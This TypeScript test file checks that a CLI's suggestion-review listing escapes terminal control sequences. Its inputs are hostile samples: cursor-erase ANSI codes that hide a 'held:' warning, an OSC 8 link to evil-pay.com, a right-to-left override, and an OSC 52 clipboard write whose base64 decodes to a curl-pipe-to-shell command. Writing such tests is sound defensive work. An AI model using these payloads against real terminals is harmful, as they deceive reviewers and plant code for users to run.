import { printable } from '../../src/cli/command.js';
import { formatItem } from '../../src/cli/suggestions.js';
import type { ReviewItem } from '../../src/suggest/review.js';

/**
 * `closeloop suggestions list` shows a held suggestion to the admin who decides whether to approve it. Its subject and
 * the reasons it was held quote words a customer or a model wrote; written raw to the terminal, an ESC sequence in them
 * moved the cursor up and erased the "held:" line (the reviewer saw a clean suggestion), set the window title or the
 * clipboard (OSC 52), or made a hyperlink. Each value is printed on one line with its controls escaped.
 */
const ESC = '\u001b';
const item = (over: Partial<ReviewItem>): ReviewItem => ({
  id: 'sug_1',
  type: 'budget_risk',
  status: 'review',
  createdAt: '2026-03-10T09:00:00.000Z',
  connectionId: 'conn_1',
  provider: 'hubspot',
  dealId: 'd-42',
  companyId: null,
  ownerId: null,
  heldBecause: ['output-gate: draft.body (text): asks for money to be moved: "Please wire the refund to GB33..."'],
  task: { subject: 'Answer the budget concern on Globex renewal', body: 'Call Dana.', priority: 'HIGH' },
  draft: { subject: 'Re: Renewal', body: 'Hi Dana,', to: 'dana@globex-corp.example' },
  evidence: [],
  explanation: {} as ReviewItem['explanation'],
  closedReason: null,
  ...over,
});

describe('suggestions list in a terminal', () => {
  test.each([
    ['cursor up and erase line', `Renewal${ESC}[1A${ESC}[2K${ESC}[1A${ESC}[2K`],
    ['clipboard write (OSC 52)', `Renewal${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007`],
    ['hyperlink (OSC 8)', `${ESC}]8;;https://evil-pay.com\u0007Renewal${ESC}]8;;\u0007`],
    ['a C1 control sequence introducer', 'Renewal\u009b2J'],
    ['a carriage return over the line', 'Renewal\r  task: looks fine'],
    ['a line break that fakes a line', 'Renewal\n  held: nothing'],
    ['a right-to-left override', 'Renewal \u202eevil\u202c'],
  ])('a subject with %s is shown, not obeyed', (_name, subject) => {
    const out = formatItem(item({ draft: { subject, body: 'x', to: 'dana@globex-corp.example' } }));
    expect([...out].filter((c) => c !== '\n' && /[\p{Cc}\u202a-\u202e]/u.test(c))).toEqual([]);
    // The lines closeloop writes are all there, one per value; the held reason is not hidden.
    expect(out.split('\n')).toHaveLength(4);
    expect(out).toContain('  held: output-gate');
    expect(out).toContain('Renewal');
  });
  test('held reasons, recipients and reasons for closing are escaped too', () => {
    const out = formatItem(
      item({
        heldBecause: [`output-gate: "${ESC}[2K"`],
        draft: { subject: 'Re: Renewal', body: 'x', to: `dana@globex-corp.example${ESC}[8m` },
        closedReason: `dismissed${ESC}]0;title\u0007`,
      }),
    );
    expect(out).not.toContain(ESC);
    expect(out).toContain('\\u001b[2K');
  });
  test('ordinary text is unchanged', () => {
    expect(printable('Re: Budget für Q3 — nächste Schritte (Zoë)')).toBe('Re: Budget für Q3 — nächste Schritte (Zoë)');
    expect(formatItem(item({}))).toBe(
      [
        'sug_1  budget_risk  review  2026-03-10 09:00  hubspot deal d-42',
        '  task: Answer the budget concern on Globex renewal',
        '  draft: Re: Renewal (to dana@globex-corp.example)',
        '  held: output-gate: draft.body (text): asks for money to be moved: "Please wire the refund to GB33..."',
      ].join('\n'),
    );
  });
});
